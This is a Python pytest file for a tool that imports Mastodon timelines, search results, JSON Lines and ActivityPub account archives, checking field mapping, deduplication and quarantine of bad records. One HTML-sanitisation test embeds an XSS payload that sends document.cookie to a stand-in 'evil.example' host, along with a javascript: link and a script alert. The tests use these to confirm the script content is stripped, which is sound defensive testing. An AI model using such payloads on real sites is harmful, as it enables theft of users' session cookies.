"""Mastodon: REST API statuses (timeline, search, JSON Lines) and the account archive's outbox."""

import json
import shutil
import zipfile

import pandas as pd
import pytest

from workbench.collect import get_format, sniff
from workbench.collect.activitypub import map_activity
from workbench.collect.mastodon import map_status
from workbench.collect.mastodon_common import html_to_text, status_key
from workbench.collect.readers import decode
from workbench.errors import RecordError
from workbench.evidence import sha256_file
from workbench.ingest import take_sample

from .conftest import DATA

M = DATA / "mastodon"
TIMELINE = M / "timeline_home.json"
SEARCH = M / "search_kessel.json"
LINES = M / "statuses_toot.jsonl"
ARCHIVE = M / "archive"
OUTBOX = ARCHIVE / "outbox.json"
PHOTO = "media_attachments/files/111/340/726/998/712/345/original/3f9c2b7a1d5e8c40.jpg"

S1 = "mastodon:mastodon.social/111340727531569153"  # alice_w's photo post
S2 = "mastodon:toot.example.org/111340787996240387"  # bob's reply to it (remote)
BOOST = "mastodon:mastodon.social/111340928111223344"  # carol_k boosts dana
DANA = "mastodon:masto.example.net/111340902216587264"  # the boosted post
CW = "mastodon:mastodon.social/111340989912345001"
HOSTILE = "mastodon:social.example.net/111341099899990011"
LOCAL_PARENT = "mastodon:toot.example.org/111341247688123904"
UNRESOLVED = "mastodon:masto.example.net/111341300999870464"


def record_text(case, row) -> str:
    """The record exactly as it stands in its raw payload, found by its span."""
    text, _ = decode(case.raw_store.path(row.raw_sha256).read_bytes())
    start, end = map(int, row.raw_span.split("|")[-1][1:].split(":"))
    return text[start:end]


def test_sniffing_tells_the_shapes_apart(tmp_path):
    for path, name in [(TIMELINE, "mastodon"), (SEARCH, "mastodon"), (LINES, "mastodon"),
                       (OUTBOX, "activitypub")]:
        assert sniff(take_sample(path)[0]).name == name, path
    zipped = _zip_archive(tmp_path)
    assert sniff(take_sample(zipped)[0]).name == "activitypub"
    # actor.json is not posts; likes.json is an OrderedCollection of URIs, not of activities.
    likes = tmp_path / "likes.json"
    liked = "https://toot.example.org/users/bob/statuses/111340787996240387"
    likes.write_text(json.dumps({"id": "likes.json", "type": "OrderedCollection",
                                 "totalItems": 1, "orderedItems": [liked]}))
    for path in (ARCHIVE / "actor.json", likes, DATA / "reddit" / "kesselvalley_new.json"):
        sample = take_sample(path)[0]
        assert not get_format("mastodon").sniff(sample)
        assert not get_format("activitypub").sniff(sample)


def test_html_becomes_plain_text_and_is_never_run():
    text, links = html_to_text(
        '<p>Line one<br>line two &amp; &quot;quoted&quot; &#x1F525;</p>'
        '<p><span class="h-card"><a href="https://toot.example.org/@bob" class="u-url mention">'
        '@<span>bob</span></a></span> see <a href="https://news.example/a?b=1&amp;c=2" '
        'rel="nofollow noopener"><span class="invisible">https://</span><span class="ellipsis">'
        'news.example/a</span><span class="invisible">?b=1&amp;c=2</span></a> '
        '<a href="https://m.example/tags/fire" class="mention hashtag" rel="tag">#<span>fire'
        '</span></a></p><script>fetch("https://evil.example/"+document.cookie)</script>'
        '<style>p{display:none}</style><p>  spaced\r\n   out  </p><pre>keep\n  this</pre>'
        '<a href="javascript:alert(1)">click</a>')
    assert text == ('Line one\nline two & "quoted" 🔥\n\n'
                    '@bob see https://news.example/a?b=1&c=2 #fire\n\n'
                    'spaced out\n\nkeep\n  this\n\nclick')
    assert links == ["https://news.example/a?b=1&c=2"]
    assert html_to_text("") == ("", [])
    assert html_to_text("<p>a</p><script>never closed <p>b</p>") == ("a", [])


def test_status_ids_are_the_same_on_every_instance():
    assert status_key("https://mastodon.social/users/Gargron/statuses/103270115826048975") \
        == "mastodon.social/103270115826048975"
    assert status_key("https://toot.example.org/users/bob/statuses/1113/activity") \
        == "toot.example.org/1113"
    assert status_key("https://gts.example/ap/users/01H/statuses/01HX") == "gts.example/01HX"
    assert status_key("https://Misskey.example/notes/9k2abc") == "misskey.example/notes/9k2abc"
    with pytest.raises(RecordError, match="not a status URI"):
        status_key("tag:mastodon.social,2023:objectId=1")


def test_home_timeline_maps_every_field(case):
    result = case.import_file(TIMELINE, progress=False)
    assert (result.format, result.imported, result.duplicates, result.quarantined) == \
        ("mastodon", 7, 0, 0)
    df = case.items().set_index("uid")
    post = df.loc[S1]
    assert post.platform == "mastodon" and post.id == "mastodon.social/111340727531569153"
    assert post.kind == "post" and post.url == "https://mastodon.social/@alice_w/111340727531569153"
    assert post.created_at == pd.Timestamp("2023-11-02T09:15:27.412Z")
    assert post.text == (
        "Smoke plume over the Kessel bridge right now, wind pushing it east. Fire crews on the "
        "B27. #RiverFire #Kessel\n\n"
        "Live updates: https://www.kesselvalley-herald.example/news/2023/11/02/bridge-fire")
    assert pd.isna(post.title) and post.lang == "en"
    assert (post.author_id, post.author_handle, post.author_name) == \
        ("alice_w@mastodon.social", "alice_w@mastodon.social", "Alice Wren 🌿")
    assert post.hashtags == ["riverfire", "kessel"] and post.mentions == []
    assert post.links == ["https://www.kesselvalley-herald.example/news/2023/11/02/bridge-fire"]
    assert post.media == ["3f9c2b7a1d5e8c40.jpg"]
    assert (post.likes, post.reposts, post.replies) == (25, 12, 3)
    assert pd.isna(post.reply_to) and pd.isna(post.repost_of) and post.caveats == []
    assert post.raw_locator == "$[6]"

    media = {m["uid"]: m for m in case.db["media"].rows}
    photo = media[f"{S1}#3f9c2b7a1d5e8c40.jpg"]
    assert (photo["kind"], photo["width"], photo["height"]) == ("photo", 1600, 1200)
    assert photo["url"].startswith("https://files.mastodon.social/media_attachments/files/")
    assert photo["alt"].startswith("Grey smoke plume")

    authors = case.authors().set_index("uid")
    alice = authors.loc["mastodon:alice_w@mastodon.social"]
    assert (alice.handle, alice.followers, alice.following, alice.posts) == \
        ("alice_w@mastodon.social", 1204, 310, 2211)
    assert alice.bio == ("Local news volunteer in the Kessel valley. Photos & verified updates "
                         "only.\n\nPronouns: she/her")
    assert alice.url == "https://mastodon.social/@alice_w"
    assert alice.created_at == pd.Timestamp("2022-11-04T00:00:00Z")

    # A remote reply: named by its home instance's id; its parent found in the same file.
    reply = df.loc[S2]
    assert (reply.kind, reply.reply_to, reply.lang) == ("reply", S1, "de")
    assert reply.author_id == "bob@toot.example.org"
    assert reply.mentions == ["alice_w@mastodon.social"]
    # The parent is not in the file but its author is local: serving host + served id.
    assert df.loc[LOCAL_PARENT].reply_to == "mastodon:mastodon.social/111336400123456789"
    # The parent is neither in the file nor local: left empty, and said so.
    assert pd.isna(df.loc[UNRESOLVED].reply_to)
    assert df.loc[UNRESOLVED].caveats == ["reply-unresolved"]

    boost = df.loc[BOOST]
    assert (boost.kind, boost.repost_of, boost.author_id) == \
        ("repost", DANA, "carol_k@mastodon.social")
    assert boost.text.startswith("Drone footage from 09:50") and boost.hashtags == ["riverfire"]
    assert boost.mentions == ["dana@masto.example.net"]
    assert boost.media == ["9b1d5c2e7a3f4068.mp4"]  # the origin's file name, as in dana's archive
    assert boost.url == "https://mastodon.social/users/carol_k/statuses/111340928111223344/activity"
    assert DANA not in df.index  # the original is carried by the boost, not a second item
    assert "mastodon:dana@masto.example.net" in authors.index
    assert media[f"{BOOST}#9b1d5c2e7a3f4068.mp4"]["kind"] == "video"

    warned = df.loc[CW]
    assert warned.title == "Injured wildlife – graphic photos" and warned.caveats == ["sensitive"]
    assert warned.text.startswith("Volunteers at the east bank")

    # Every record's span is that status exactly as received.
    for row in case.items().itertuples():
        status = json.loads(record_text(case, row))
        assert f"mastodon:{status_key(status['uri'])}" == row.uid

    again = case.import_file(TIMELINE, progress=False)
    assert (again.imported, again.duplicates, again.quarantined) == (0, 7, 0)


def test_hostile_content_stays_text(case):
    case.import_file(TIMELINE, progress=False)
    row = case.items().set_index("uid").loc[HOSTILE]
    assert row.text == ("تحديث عاجل: الطريق 27 مغلق & الدخان يتجه شرقاً 🔥🚒\n\n"
                        'עדכון: הכביש סגור <script>alert("x")</script>\n\n'
                        "@bob 📷\u00a0photos soon — #RiverFire")
    assert "document.cookie" not in row.text and "evil.example" not in row.text
    assert row.lang == "ar" and row.mentions == ["bob@toot.example.org"]
    assert row.author_name == "نور | Noor"
    assert case.items(text="الطريق").uid.tolist() == [HOSTILE]


def test_search_result_imports_its_statuses(case):
    case.import_file(TIMELINE, progress=False)
    result = case.import_file(SEARCH, progress=False)
    assert (result.imported, result.duplicates, result.quarantined) == (1, 1, 0)
    row = case.items().set_index("uid").loc["mastodon:mastodon.social/111341455512345004"]
    assert (row.kind, row.quote_of, row.raw_locator) == ("quote", S2, "$.statuses[0]")
    assert row.author_id == "frank_t@mastodon.social"
    assert "mastodon:frank_t@mastodon.social" in case.authors().uid.tolist()
    assert json.loads(record_text(case, row))["id"] == "111341455512345004"


def test_json_lines_from_another_instance(case):
    case.import_file(TIMELINE, progress=False)
    result = case.import_file(LINES, progress=False)  # UTF-8 BOM, CRLF line ends
    # bob's reply, served by his own instance with another id, is the same item.
    assert (result.imported, result.duplicates, result.quarantined) == (2, 1, 2)
    assert result.notes == {"naive times taken as UTC": 1}
    quarantine = case.quarantine().set_index("locator")
    assert quarantine.loc["line 3", "reason"].startswith("invalid JSON")
    assert quarantine.loc["line 3", "span"] == "L3"
    assert quarantine.loc["line 4", "reason"] == "missing created_at"
    df = case.items().set_index("uid")
    naive = df.loc["mastodon:toot.example.org/111341600011112222"]
    assert naive.caveats == ["naive-time", "visibility:unlisted"]
    assert naive.created_at == pd.Timestamp("2023-11-02T12:30:00Z")
    assert naive.text == ("Update from the Altkessel side: ferry still not running.\n"
                          "Buses replace it from 13:00.")
    assert naive.author_id == "mika@toot.example.org"  # local there: acct "mika"
    assert df.loc[S2].reply_to == S1  # the first import's mapping stands
    assert df.loc["mastodon:toot.example.org/111341700011114444"].raw_span == "L5"


def test_account_archive_folder(case):
    result = case.import_file(OUTBOX, progress=False)
    assert (result.format, result.imported, result.quarantined, result.media_files) == \
        ("activitypub", 5, 1, 1)
    df = case.items().set_index("uid")
    post = df.loc[S1]  # the same uid as the API gives the same post
    assert (post.kind, post.author_id, post.author_name) == \
        ("post", "alice_w@mastodon.social", "Alice Wren 🌿")  # from actor.json
    assert post.text.startswith("Smoke plume over the Kessel bridge")
    assert post.hashtags == ["riverfire", "kessel"] and post.lang == "en"
    assert (post.likes, post.reposts) == (25, 12)
    assert post.conversation_id == \
        "tag:mastodon.social,2023-11-02:objectId=512345678:objectType=Conversation"
    assert post.media == ["3f9c2b7a1d5e8c40.jpg"]
    media = case.db["media"].get(f"{S1}#3f9c2b7a1d5e8c40.jpg")
    assert media["member"] == PHOTO and media["mime"] == "image/jpeg"
    assert media["sha256"] == sha256_file(ARCHIVE / PHOTO)
    assert case.media_store.exists(media["sha256"])

    reply = df.loc["mastodon:mastodon.social/111340830011223344"]
    assert (reply.kind, reply.reply_to, reply.lang) == ("reply", S2, "de")
    assert reply.mentions == ["bob@toot.example.org"]
    boost = df.loc["mastodon:mastodon.social/111340955500011122"]
    assert (boost.kind, boost.repost_of, boost.text) == ("repost", DANA, "")
    direct = df.loc["mastodon:mastodon.social/111341010099887766"]
    assert direct.title == "Private: source contact"
    assert direct.caveats == ["visibility:direct"]

    quarantine = case.quarantine()
    assert quarantine.locator.tolist() == ["$.orderedItems[5]"]
    assert quarantine.reason.tolist() == ["Create activity without its object"]
    author = case.authors().set_index("uid").loc["mastodon:alice_w@mastodon.social"]
    assert author.bio.startswith("Local news volunteer") and pd.isna(author.followers)
    for row in case.items().itertuples():
        activity = json.loads(record_text(case, row))
        assert activity["type"] in ("Create", "Announce")

    # The API's view of the same post adds nothing, and the archive's file stays linked.
    again = case.import_file(TIMELINE, progress=False)
    assert (again.imported, again.duplicates) == (6, 1)
    assert case.verify().ok


def test_account_archive_zip(case, tmp_path):
    zipped = _zip_archive(tmp_path)
    result = case.import_file(zipped, progress=False)
    assert (result.format, result.imported, result.quarantined, result.media_files) == \
        ("activitypub", 5, 1, 1)
    row = case.items().set_index("uid").loc[S1]
    assert row.raw_locator == "outbox.json $.orderedItems[0]"
    assert row.raw_span.startswith("outbox.json|C")
    with zipfile.ZipFile(case.raw_store.path(row.raw_sha256)) as archive:
        text, _ = decode(archive.read("outbox.json"))
    start, end = map(int, row.raw_span.split("|C")[1].split(":"))
    assert json.loads(text[start:end])["object"]["id"].endswith("/111340727531569153")
    assert row.author_name == "Alice Wren 🌿"
    media = case.db["media"].get(f"{S1}#3f9c2b7a1d5e8c40.jpg")
    assert media["sha256"] == sha256_file(ARCHIVE / PHOTO)
    assert case.quarantine().locator.tolist() == ["outbox.json $.orderedItems[5]"]


def test_broken_array_keeps_the_records_before_the_break(case, tmp_path):
    text = TIMELINE.read_text(encoding="utf-8")
    path = tmp_path / "timeline_cut.json"
    path.write_text(text[: text.index('{"id":"111340928111223344"') + 300], encoding="utf-8")
    result = case.import_file(path, progress=False)
    assert (result.imported, result.quarantined) == (4, 1)
    problem = case.quarantine().iloc[0]
    assert problem.reason.startswith("invalid JSON from here on")
    assert problem.span.endswith(f":{len(path.read_text(encoding='utf-8'))}")


def test_records_that_cannot_be_mapped(case, tmp_path):
    good = json.loads(TIMELINE.read_text(encoding="utf-8"))[-1]
    no_account = {k: v for k, v in good.items() if k != "account"}
    no_uri = dict(good, id="1", uri=None, url=None)
    bad_time = dict(good, id="2", created_at="2023-11-02T25:00:00Z")
    path = tmp_path / "odd.json"
    path.write_text(json.dumps([good, no_account, no_uri, bad_time, 42]), encoding="utf-8")
    result = case.import_file(path, format="mastodon", progress=False)
    assert (result.imported, result.quarantined) == (1, 4)
    reasons = case.quarantine().set_index("locator").reason
    assert reasons["$[1]"] == "status has no account"
    assert reasons["$[2]"] == "status has no uri or url, so its instance is unknown"
    assert "not a recognised time" in reasons["$[3]"]
    assert reasons["$[4]"] == "expected a status object, found int"
    with pytest.raises(RecordError, match="not a post"):
        map_activity({"type": "Like", "actor": "https://a.example/users/x"})


def test_json_lines_whose_first_line_is_broken(case, write_jsonl):
    statuses = json.loads(TIMELINE.read_text(encoding="utf-8"))
    path = write_jsonl("cut.jsonl", ['{"id":"1113","created_at":"2023-11-0', *statuses[:2]])
    assert sniff(take_sample(path)[0]).name == "mastodon"
    result = case.import_file(path, progress=False)
    assert (result.imported, result.quarantined) == (2, 1)
    assert case.quarantine().locator.tolist() == ["line 1"]


def test_a_single_status_and_a_thread_context(case, tmp_path):
    statuses = json.loads(TIMELINE.read_text(encoding="utf-8"))
    single = tmp_path / "status.json"
    single.write_text(json.dumps(statuses[-1], indent=2), encoding="utf-8")
    assert case.import_file(single, progress=False).imported == 1
    context = tmp_path / "context.json"
    context.write_text(json.dumps({"ancestors": [statuses[-1]], "descendants": [statuses[-2]]}),
                       encoding="utf-8")
    result = case.import_file(context, format="mastodon", progress=False)
    assert (result.imported, result.duplicates) == (1, 1)
    assert map_status(statuses[-2]).item.reply_to is None  # without the file's context


def test_purging_a_status_leaves_the_others_exact(case):
    case.import_file(TIMELINE, progress=False)
    case.purge(items=[CW])
    rows = case.items()
    assert CW not in rows.uid.tolist() and len(rows) == 6
    for row in rows.itertuples():
        assert f"mastodon:{status_key(json.loads(record_text(case, row))['uri'])}" == row.uid
    assert case.verify().ok


def _zip_archive(tmp_path):
    """The archive folder as the zip Mastodon lets the user download."""
    path = tmp_path / "archive-20240115080004-4f1c9a2b7d3e8f60a1b2c3d4e5f60718.zip"
    shutil.make_archive(str(path.with_suffix("")), "zip", ARCHIVE)
    return path
